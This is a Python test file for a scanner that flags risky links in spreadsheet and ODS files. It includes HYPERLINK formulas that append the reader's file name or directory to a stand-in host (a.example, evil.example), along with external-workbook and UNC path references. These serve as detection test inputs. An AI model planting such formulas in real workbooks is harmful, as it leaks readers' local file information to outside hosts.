"""Links in workbooks that take something of the reader's computer along, or lead to another workbook."""

import pytest

from office_files import declared, office
from strategy.checking.attached import formulas
from strategy.checking.attached.active_content import in_document

LINKED = "https://a.example/"


def sheet(inside: str) -> str | None:
    return in_document(office(".xlsx", **{"xl/worksheets/s.xml": f"<x>{inside}</x>"}), ".xlsx")


@pytest.mark.parametrize(
    "formula",
    [
        f'HYPERLINK("{LINKED}"&amp;CELL("filename"),"x")',
        f'HYPERLINK("{LINKED}"&amp;INFO("directory"),"x")',
        f'HYPERLINK("{LINKED}"&amp;B1)+LEN(CELL("file"&amp;"name"))',
        f'HYPERLINK("{LINKED}","https://www."&amp;"gov.ua")',
    ],
)
def test_a_link_of_a_formula_tells_nothing_of_the_reader(formula: str) -> None:
    assert sheet(f"<f>{formula}</f>")


def test_no_cell_tells_it_for_the_link_of_another() -> None:
    link, told = f'<f>HYPERLINK("{LINKED}"&amp;A1)</f>', '<f>CELL("filename")</f>'
    assert sheet(link) is None
    assert sheet(told) is None
    assert sheet(told + link)


@pytest.mark.parametrize(
    "formula",
    [
        f'HYPERLINK("{LINKED}"&amp;A1,"№ "&amp;A1)',
        f'HYPERLINK("{LINKED}?"&amp;CELL("row",A1),"№ "&amp;A1)',
        'HYPERLINK("#"&amp;CELL("filename",A1),"№ "&amp;A1)',
        'MID(CELL("filename",A1),FIND("]",A1),31)',
    ],
)
def test_other_links_of_formulas_stay(formula: str) -> None:
    assert sheet(f"<f>{formula}</f>") is None


@pytest.mark.parametrize(
    "place", [r"[\\h\s]Аркуш!A1", "[b.xlsx]A!A1", r"\\h\s", "http://a.example/", "file:x", "//h/s"]
)
def test_a_place_in_the_workbook_is_in_no_other(place: str) -> None:
    assert sheet(f"<hyperlink ref='A1' location='{place}'/>") == place


@pytest.mark.parametrize("place", ["'Аркуш 1'!A1:B2", "AA10:AB20", "area-1", "!a/b#c"])
def test_places_within_the_workbook_stay(place: str) -> None:
    assert sheet(f'<hyperlink ref="A1" location="{place}"/>') is None


@pytest.mark.parametrize(
    "formula",
    ["[x.htm]'S'!A1", "[x.htm]$S!A1", "[x.htm]S:T!A1", "SUM([x.htm]$'S'!A1:B2)", "MAP(A2,_xleta.HYPERLINK)"],
)
def test_a_place_in_another_file_and_a_link_handed_on_act(formula: str) -> None:
    assert sheet(f"<f>{formula}</f>")


@pytest.mark.parametrize(
    "formula", ["Рік[Сума]+'Лист 2'!A1", "SUM(Рік[Сума])*Лист2!B1", "[1]Лист!A1", "Рік[[#This Row],[а]]"]
)
def test_columns_of_tables_stay(formula: str) -> None:
    assert sheet(f"<f>{formula}</f>") is None


def test_no_table_is_called_as_what_is_kept_of_another_file() -> None:
    table = f"<t:table {declared('t')} t:name=\"'file:///tmp/a.ods'#Лист\"/>"
    assert in_document(office(".ods", **{"content.xml": table}), ".ods") == "'file:///tmp/a.ods'#Лист"


LINK = 'HYPERLINK("https://a.example/","Сюди")'


@pytest.mark.parametrize("formula", [LINK, f" +{LINK} ", 'HYPERLINK("https://a.example/",TEXT(MAX(A1),"0"))'])
def test_a_link_is_all_of_a_formula(formula: str) -> None:
    assert not formulas.acts(formula, is_computed=True)


@pytest.mark.parametrize(
    "formula",
    [
        f'{LINK}&".evil.example/"',
        f'SUBSTITUTE({LINK},"a","b")',
        f'IF(TRUE(),"https://evil.example/",{LINK})',
        f"IF(TRUE(),B1,{LINK.replace('https://a.example/', '#A!A1')})",
        f"{LINK}+{LINK}",
        f"({LINK})",
    ],
)
def test_what_stands_around_a_link_would_lead_elsewhere(formula: str) -> None:
    """LibreOffice follows whatever the whole comes to."""
    assert formulas.acts(formula, is_computed=True)


def test_a_name_leads_nowhere() -> None:
    assert formulas.acts(LINK, is_computed=True, is_cell=False)
